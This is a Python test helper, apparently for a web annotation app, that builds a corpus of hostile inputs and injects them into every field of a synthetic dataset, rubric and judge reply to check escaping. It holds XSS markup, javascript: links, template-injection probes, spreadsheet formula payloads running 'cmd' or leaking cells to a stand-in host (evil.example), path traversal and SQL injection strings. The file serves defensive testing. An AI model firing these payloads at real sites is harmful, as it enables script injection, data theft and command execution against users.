"""The shared corpus of hostile strings and a dataset that carries it in every imported field.

Every payload that would create an element carries a ``data-pwn`` attribute, and every script in it sets
``window.__pwned`` or calls ``alert``. So a parser finds a payload that became markup by the attribute alone
(tests/security/html_checks.py), and a browser test finds one that ran by the flag or the dialog.

Other helpers import from here:

    from tests.security.hostile import CORPUS, hostile_dataset_bytes, import_hostile_dataset, hostile_judge_output
"""

import io
import json
from collections.abc import Iterator, Sequence
from typing import Any

# Markers a check can look for: the attribute on every payload element, the global every payload script sets, and
# the host every exfiltration URL points at.
PWN_ATTRIBUTE = "data-pwn"
PWN_FLAG = "__pwned"
EVIL_HOST = "evil.example"

# Template syntax that must reach the page verbatim; the evaluated forms below must never appear.
TEMPLATE_PAYLOADS = {
    "TPL{{7*7}}END": ["TPL49END"],
    "TPL${7*7}END": ["TPL$49END", "TPL49END"],
    "TPL#{7*7}END": ["TPL#49END"],
    "TPL{{ settings.SECRET_KEY }}END": [],
    "TPL{settings.SECRET_KEY}END": [],
    "TPL{question}{answer}{0.__class__}END": [],
    "TPLD{% debug %}END": ["TPLDEND"],
    "TPLC{# hidden #}END": ["TPLCEND"],
    "TPL{% load static %}{% static 'x' %}END": ["TPL/static/xEND"],
}

MARKUP_PAYLOADS = [
    f"<script {PWN_ATTRIBUTE}=\"s1\">window.{PWN_FLAG}=1;alert('pwn-s1')</script>",
    f'<img {PWN_ATTRIBUTE}="i1" src=x onerror="window.{PWN_FLAG}=1;alert(\'pwn-i1\')">',
    f'"><img {PWN_ATTRIBUTE}="i2" src=x onerror="window.{PWN_FLAG}=1;alert(\'pwn-i2\')">',
    f"'><img {PWN_ATTRIBUTE}='i3' src=x onerror='window.{PWN_FLAG}=1;alert(1)'>",
    f'" autofocus onfocus="window.{PWN_FLAG}=1" {PWN_ATTRIBUTE}="q1',
    f"' onmouseover='window.{PWN_FLAG}=1' {PWN_ATTRIBUTE}='q2",
    f'<svg {PWN_ATTRIBUTE}="svg1" onload="window.{PWN_FLAG}=1;alert(\'pwn-svg\')"><circle r="9"/></svg>',
    f'<svg {PWN_ATTRIBUTE}="svg2"><script>window.{PWN_FLAG}=1</script><foreignObject><b>x</b></foreignObject></svg>',
    f'<math {PWN_ATTRIBUTE}="m1"><mtext><table><mglyph><style><img src=x onerror=window.{PWN_FLAG}=1>',
    f'<a {PWN_ATTRIBUTE}="a1" href="javascript:window.{PWN_FLAG}=1;alert(\'pwn-a1\')">click me</a>',
    f'<a {PWN_ATTRIBUTE}="a2" href="  JaVaScRiPt&colon;window.{PWN_FLAG}=1">spaced</a>',
    f"javascript:window.{PWN_FLAG}=1;alert('pwn-bare')",
    f'<div {PWN_ATTRIBUTE}="hx1" hx-get="/accounts/logout/" hx-trigger="load" hx-target="body">hx</div>',
    f'<div {PWN_ATTRIBUTE}="hx2" hx-on:htmx:load="window.{PWN_FLAG}=1" hx-on::load="alert(1)">hx-on</div>',
    f'<button {PWN_ATTRIBUTE}="hx3" hx-post="/api/token/" hx-vals=\'js:{{x: window.{PWN_FLAG}=1}}\' '
    f'hx-trigger="load">x</button>',
    f'<form {PWN_ATTRIBUTE}="f1" action="https://{EVIL_HOST}/steal"><button formaction="javascript:alert(1)">'
    "go</button></form>",
    f'<iframe {PWN_ATTRIBUTE}="if1" src="javascript:window.{PWN_FLAG}=1" srcdoc="<script>alert(1)</script>">',
    f'<object {PWN_ATTRIBUTE}="o1" data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    f'<base {PWN_ATTRIBUTE}="b1" href="https://{EVIL_HOST}/">',
    f'<meta {PWN_ATTRIBUTE}="me1" http-equiv="refresh" content="0;url=javascript:window.{PWN_FLAG}=1">',
    f'<style {PWN_ATTRIBUTE}="st1">body{{display:none}}</style>',
    f'</script><script {PWN_ATTRIBUTE}="s2">window.{PWN_FLAG}=1</script>',
    f'</textarea><img {PWN_ATTRIBUTE}="ta" src=x onerror="window.{PWN_FLAG}=1">',
    f'</title><img {PWN_ATTRIBUTE}="ti" src=x onerror="window.{PWN_FLAG}=1">',
    f'--><img {PWN_ATTRIBUTE}="cm" src=x onerror="window.{PWN_FLAG}=1"><!--',
    f"';window.{PWN_FLAG}=1;//",
    f'";window.{PWN_FLAG}=1;//',
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    f'<details {PWN_ATTRIBUTE}="d1" open ontoggle="window.{PWN_FLAG}=1">',
    f'<video {PWN_ATTRIBUTE}="v1"><source onerror="window.{PWN_FLAG}=1"></video>',
]

MARKDOWN_PAYLOADS = [
    f"[click me](javascript:window.{PWN_FLAG}=1)",
    "![pic](javascript:alert('pwn-md'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[ref link][r]\n\n[r]: javascript:window.{PWN_FLAG}=1",
    f'<a {PWN_ATTRIBUTE}="md1" href="javascript:window.{PWN_FLAG}=1">raw html in markdown</a>',
    f'**bold** <img {PWN_ATTRIBUTE}="md2" src=x onerror="window.{PWN_FLAG}=1"> _em_',
    f"```html\n<script>window.{PWN_FLAG}=1</script>\n```",
    f"<https://{EVIL_HOST}/autolink>",
]

FORMULA_PAYLOADS = [
    f'=HYPERLINK("https://{EVIL_HOST}/?leak="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

OTHER_PAYLOADS = [
    "\u202eevil\u202c RTL override and zero\u200bwidth",
    "line one\nline two\r\nline three",
    "../../../../etc/passwd",
    "'; DROP TABLE annotations_rating; --",
    "%00 %2e%2e%2f %3Cscript%3E",
    "日本語の回答です。<b>太字</b>",
]

CORPUS: list[str] = [
    *MARKUP_PAYLOADS,
    *MARKDOWN_PAYLOADS,
    *TEMPLATE_PAYLOADS,
    *FORMULA_PAYLOADS,
    *OTHER_PAYLOADS,
]

# Names are stored in columns of at most 200 characters (aspect, system key, rater id, judge name).
NAME_CORPUS: list[str] = [payload for payload in CORPUS if 0 < len(payload) <= 200]

# Payloads that only an attacker would write, for checks that no page shows them decoded and live.
EVALUATED_TEMPLATE_FORMS: list[str] = [form for forms in TEMPLATE_PAYLOADS.values() for form in forms]


def _cycle(values: Sequence[str], start: int, count: int) -> list[str]:
    return [values[(start + offset) % len(values)] for offset in range(count)]


def hostile_rubric(*, aspects: Sequence[str] | None = None, systems: Sequence[str] | None = None) -> dict[str, Any]:
    """A rubric whose aspect names, labels, descriptions, scale labels and model names are all payloads."""
    aspect_names = list(aspects) if aspects is not None else NAME_CORPUS[:6]
    system_keys = list(systems) if systems is not None else NAME_CORPUS
    return {
        "aspects": [
            {
                "name": name,
                "label": NAME_CORPUS[(index + 3) % len(NAME_CORPUS)],
                "description": CORPUS[(index + 5) % len(CORPUS)],
                "min": 1,
                "max": 5,
                "ideal": 5,
                "level": "ordinal",
                "labels": {"1": CORPUS[(index + 7) % len(CORPUS)], "5": CORPUS[(index + 11) % len(CORPUS)]},
                "missing": [None, "NA"],
            }
            for index, name in enumerate(aspect_names)
        ],
        "systems": {key: NAME_CORPUS[(index + 1) % len(NAME_CORPUS)] for index, key in enumerate(system_keys)},
    }


def hostile_items(
    *,
    aspects: Sequence[str] | None = None,
    systems_per_turn: int = 3,
    raters_per_answer: int = 3,
) -> Iterator[dict[str, Any]]:
    """One item per payload; across the file every payload appears in every free-text and every name field."""
    aspect_names = list(aspects) if aspects is not None else NAME_CORPUS[:6]
    for index, payload in enumerate(CORPUS):
        name = NAME_CORPUS[index % len(NAME_CORPUS)]
        systems = _cycle(NAME_CORPUS, index, systems_per_turn)
        responses = {}
        for s_index, system_key in enumerate(systems):
            raters = _cycle(NAME_CORPUS, index + s_index, raters_per_answer)
            responses[system_key] = {
                "response": CORPUS[(index + s_index) % len(CORPUS)] + "\n\n" + payload,
                "human_evals": {
                    aspect: [1 + (index + s_index + r_index + a_index) % 5 for r_index in range(raters_per_answer)]
                    for a_index, aspect in enumerate(aspect_names)
                },
                "raters": raters,
                "auto_evals": {
                    name: {aspect: 1 + (index + s_index) % 5 for aspect in aspect_names},
                    NAME_CORPUS[(index + 2) % len(NAME_CORPUS)]: {name: 0.5},
                },
                "meta": {"note": payload, name: payload},
            }
        turns = [
            {
                "prompt": payload,
                "reference": CORPUS[(index + 1) % len(CORPUS)],
                "context": [payload, CORPUS[(index + 2) % len(CORPUS)]] if index % 2 else payload,
                "responses": responses,
            }
        ]
        if index % 3 == 0:
            # A second turn, so pages that show the earlier turns of a conversation get payloads too.
            turns.append(
                {
                    "prompt": CORPUS[(index + 4) % len(CORPUS)],
                    "reference": payload,
                    "responses": {
                        key: {
                            "response": payload,
                            "human_evals": {aspect: [3] * raters_per_answer for aspect in aspect_names},
                            "raters": _cycle(NAME_CORPUS, index, raters_per_answer),
                        }
                        for key in systems
                    },
                }
            )
        yield {"id": f"{payload}#{index}", "turns": turns, "meta": {"source": payload, name: [payload]}}


def hostile_dataset_bytes(**kwargs: Any) -> bytes:
    lines = [json.dumps(item, ensure_ascii=False) for item in hostile_items(**kwargs)]
    return ("\n".join(lines) + "\n").encode("utf-8")


def import_hostile_dataset(
    *,
    name: str = "hostile <script>window.__pwned=1</script>",
    owner: Any = None,
    aspects: Sequence[str] | None = None,
) -> Any:
    """Imports the hostile dataset with its hostile rubric and returns the ImportResult."""
    from annotations.datasets.importing import dataset_import
    from annotations.rubrics.specs import parse_rubric

    rubric = parse_rubric(hostile_rubric(aspects=aspects), source="file")
    stream = io.BytesIO(hostile_dataset_bytes(aspects=aspects))
    return dataset_import(stream=stream, name=name, rubric=rubric, owner=owner)


def hostile_judge_output(payload: str, *, score: int = 3, as_json: bool = False) -> str:
    """A judge reply whose reasoning is a payload and whose score is still well-formed."""
    if as_json:
        return json.dumps({"reasoning": payload, "score": score}, ensure_ascii=False)
    return f"Reasoning: {payload}\nScore: {score}"
